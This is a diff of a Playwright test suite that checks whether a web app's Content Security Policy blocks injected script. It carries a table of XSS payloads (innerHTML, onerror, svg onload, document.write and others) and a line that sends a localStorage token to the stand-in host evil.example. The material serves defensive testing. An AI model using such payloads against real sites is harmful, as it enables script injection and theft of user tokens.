@@ -1,3 +1,4 @@
+import type { Page } from '@playwright/test'
 import { settle } from './support/looks.ts'
 import { expect, test } from './support/test.ts'
 
@@ -21,7 +22,7 @@ const payloads: Readonly<Record<string, string>> = {
   'dynamic import of a blob': `await import(URL.createObjectURL(new Blob(['window.stolen.push(1)'], { type: 'text/javascript' })))`,
   'innerHTML with an image': `document.body.innerHTML += '<img src=x onerror="window.stolen.push(1)">'`,
   'innerHTML with an svg': `document.body.innerHTML += '<svg onload="window.stolen.push(1)"></svg>'`,
-  outerHTML: `document.querySelector('h1').outerHTML = '<img src=x onerror="window.stolen.push(1)">'`,
+  outerHTML: `document.querySelector('#root').outerHTML = '<img src=x onerror="window.stolen.push(1)">'`,
   insertAdjacentHTML: `document.body.insertAdjacentHTML('beforeend', '<img src=x onerror="window.stolen.push(1)">')`,
   'document.write': `document.write('<script>window.stolen.push(1)</' + 'script>')`,
   DOMParser: `document.body.append(...new DOMParser().parseFromString('<img src=x onerror="window.stolen.push(1)">', 'text/html').body.children)`,
@@ -45,57 +46,60 @@ const payloads: Readonly<Record<string, string>> = {
   'sending the token in an image': `const i = new Image(); i.onload = () => window.stolen.push(1); i.src = 'https://evil.example/?t=' + localStorage.getItem('tokend')`,
 }
 
+/**
+ * Runs each payload inside a script of our own origin: what an attacker has after finding a hole in our code. Answers
+ * those that got through, and what left for another origin.
+ */
+const attack = async (page: Page) => {
+  const left: string[] = []
+  await page.context().route(/^https?:\/\/evil\.example/, (route) => {
+    left.push(route.request().url())
+    return route.fulfill({ body: 'window.stolen.push(1)', contentType: 'text/javascript' })
+  })
+  await page.route('**/attack.js*', (route) => {
+    const payload = payloads[new URL(route.request().url()).searchParams.get('name') ?? ''] ?? ''
+    return route.fulfill({
+      contentType: 'text/javascript',
+      body: `window.stolen = []; (async () => { try { ${payload} } catch {} finally { window.tried = true } })()`,
+    })
+  })
+  const ran: string[] = []
+  for (const name of Object.keys(payloads)) {
+    const query = encodeURIComponent(name)
+    await page.goto(`/?attack=${query}#/user/language`)
+    await page.evaluate((src) => import(src) as Promise<void>, `/attack.js?name=${query}`)
+    // What runs at all has run when a frame, an image and a worker have had the time to load.
+    await page
+      .waitForFunction(() => 'tried' in window && (window.stolen?.length ?? 0) > 0, undefined, {
+        timeout: 250,
+      })
+      .then(
+        () => ran.push(name),
+        () => {},
+      )
+  }
+  return { ran, left }
+}
+
 test.describe('CSP stops injected script', () => {
   test('none of the ways to bring in a script of one’s own runs, and nothing leaves the origin', async ({
     page,
     open,
     complaints,
-    baseURL,
   }) => {
     complaints.expect(/./)
     expect(Object.keys(payloads).length).toBeGreaterThanOrEqual(20)
-    const left: string[] = []
-    await page.context().route(/^https?:\/\/evil\.example/, (route) => {
-      left.push(route.request().url())
-      return route.fulfill({ body: 'window.stolen.push(1)', contentType: 'text/javascript' })
-    })
-    // The script that carries the payloads is one of ours: what an attacker gains by a hole in our own code.
-    await page.route('**/attack.js*', (route) =>
-      route.fulfill({
-        contentType: 'text/javascript',
-        body: `window.stolen = []; (async () => { try { ${payloads[new URL(route.request().url()).searchParams.get('name') ?? ''] ?? ''} } catch (error) { window.refused = String(error) } finally { window.tried = true } })()`,
-      }),
-    )
     await open('/user/language')
-    const ran: string[] = []
-    for (const name of Object.keys(payloads)) {
-      await page.goto(`/?attack=${encodeURIComponent(name)}#/user/language`)
-      await settle(page)
-      await page.evaluate(
-        (src) => {
-          // As the app's own module loader would: a preloaded script of the same origin.
-          const policy = (window as { trustedTypes?: { defaultPolicy?: unknown } }).trustedTypes
-          void policy
-          const script = document.createElement('script')
-          script.setAttribute('nonce', '')
-          try {
-            script.setAttribute('src', src)
-          } catch {
-            // Trusted Types refuse even this: then the module loader is the only way in.
-          }
-          document.head.append(script)
-          if (script.src === '') void import(src)
-        },
-        `${baseURL}/attack.js?name=${encodeURIComponent(name)}`,
-      )
-      await page.waitForFunction(() => 'tried' in window)
-      // What would run at all runs within a turn of the loop or when a frame, image or worker has loaded.
-      await page.evaluate(() => new Promise((resolve) => setTimeout(resolve, 60)))
-      const stolen = await page.evaluate(() => window.stolen?.length ?? 0)
-      if (stolen > 0) ran.push(name)
-    }
-    expect(ran).toEqual([])
-    expect(left).toEqual([])
+    expect(await attack(page)).toEqual({ ran: [], left: [] })
+  })
+
+  test('the same ways work where no policy stops them', async ({ browser, complaints }) => {
+    complaints.expect(/./)
+    const context = await browser.newContext({ bypassCSP: true })
+    const { ran, left } = await attack(await context.newPage())
+    await context.close()
+    expect(ran.length, ran.join(', ')).toBeGreaterThanOrEqual(20)
+    expect(left.length).toBeGreaterThan(0)
   })
 
   test('the policy and the other headers stand on the document', async ({ page }) => {
